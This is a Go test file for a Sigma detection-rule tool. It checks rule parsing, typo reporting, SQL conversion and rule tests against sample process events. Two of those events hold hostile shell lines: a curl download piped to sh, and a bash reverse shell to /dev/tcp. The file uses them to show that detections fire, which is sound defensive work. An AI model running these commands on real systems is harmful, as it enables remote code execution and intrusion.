package sigma_test

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/vigilhq/vigil/detect/internal/duckdbtest"
	"github.com/vigilhq/vigil/detect/rules"
	"github.com/vigilhq/vigil/detect/sigma"
)

func writeRules(t *testing.T, files map[string]string) string {
	dir := t.TempDir()
	for name, body := range files {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

func TestCheckAndConvert(t *testing.T) {
	dir := writeRules(t, map[string]string{
		"good.yml":      ruleYAML("  sel:\n    CommandLine|contains: x\n  condition: sel"),
		"sub/typo.yml":  ruleYAML("  sel:\n    CommandLine|contians: x\n  condition: sel"),
		"sub/notes.txt": "not a rule",
		"corr.yml": strings.NewReplacer("title: test", "title: base\nname: base", "0001", "0002").Replace(ruleYAML("  sel:\n    CommandLine: y\n  condition: sel")) +
			"\n---\ntitle: many\ncorrelation:\n  type: event_count\n  rules: [base]\n  group-by: [User]\n  timespan: 1h\n  condition: {gte: 5}\n",
	})
	rep := sigma.Check([]string{dir}, sigma.Options{})
	if rep.Files != 3 || rep.Rules != 3 {
		t.Errorf("files %d rules %d, want 3 and 3", rep.Files, rep.Rules)
	}
	// The good rule, the base rule and the correlation.
	if rep.Converted["duckdb"] != 3 || rep.Converted["clickhouse"] != 3 {
		t.Errorf("converted %v", rep.Converted)
	}
	var out strings.Builder
	if err := rep.Format(&out); err != nil {
		t.Fatal(err)
	}
	text := out.String()
	for _, want := range []string{
		filepath.Join(dir, "sub/typo.yml") + `:8:17: unknown modifier "contians" (did you mean "contains"?)`,
		"3 files, 3 rules (0 filters); converted: clickhouse 3, duckdb 3; 1 problems",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("report lacks %q:\n%s", want, text)
		}
	}
	if rep.OK() {
		t.Error("report with problems is OK")
	}

	conv, errs := sigma.Convert([]string{filepath.Join(dir, "good.yml")}, sigma.Options{Dialect: sigma.ClickHouse{}})
	if len(errs) != 0 || len(conv) != 1 || conv[0].Table != "process_creation" || conv[0].Dialect != "clickhouse" ||
		conv[0].SQL != "SELECT * FROM process_creation WHERE positionCaseInsensitiveUTF8(process_command_line, 'x') > 0" {
		t.Errorf("convert: %+v %v", conv, errs)
	}
}

func TestRuleTests(t *testing.T) {
	db := duckdbtest.Open(t)
	var parsed []*sigma.Rule
	entries, _ := rules.FS.ReadDir(".")
	for _, e := range entries {
		data, _ := rules.FS.ReadFile(e.Name())
		rs, errs := sigma.Parse(e.Name(), data)
		if len(errs) > 0 {
			t.Fatal(errs)
		}
		parsed = append(parsed, rs...)
	}
	events, err := sigma.ReadTestEvents(strings.NewReader(`name: curl to shell
logsource: {product: linux, category: process_creation}
fields: {Image: /bin/sh, CommandLine: "sh -c curl -s http://x/i.sh | sh"}
expect: [Download Piped to a Shell]
---
name: reverse shell, wrongly expected quiet
logsource: {product: linux, category: process_creation}
fields: {Image: /bin/bash, CommandLine: "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", ProcessId: 42}
---
name: quiet
logsource: {product: linux, category: process_creation}
fields: {Image: /bin/ls, CommandLine: ls -l}
expect: []
`))
	if err != nil {
		t.Fatal(err)
	}
	res, err := sigma.Test(context.Background(), db, parsed, events, sigma.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if len(res) != 3 || !res[0].Pass() || res[2].Pass() == false {
		t.Fatalf("results %+v", res)
	}
	if res[1].Pass() || len(res[1].Unexpected) != 1 || res[1].Unexpected[0] != "Reverse Shell One-Liner" {
		t.Errorf("unexpected match not reported: %+v", res[1])
	}
	db2 := duckdbtest.Open(t)
	if _, err := sigma.Test(context.Background(), db2, parsed, []sigma.TestEvent{{Name: "x", Logsource: sigma.Logsource{Category: "process_creation"}, Fields: map[string]any{"Nope": 1}}}, sigma.Options{}); err == nil ||
		!strings.Contains(err.Error(), `field "Nope" has no column`) {
		t.Errorf("unmapped test field: %v", err)
	}
}
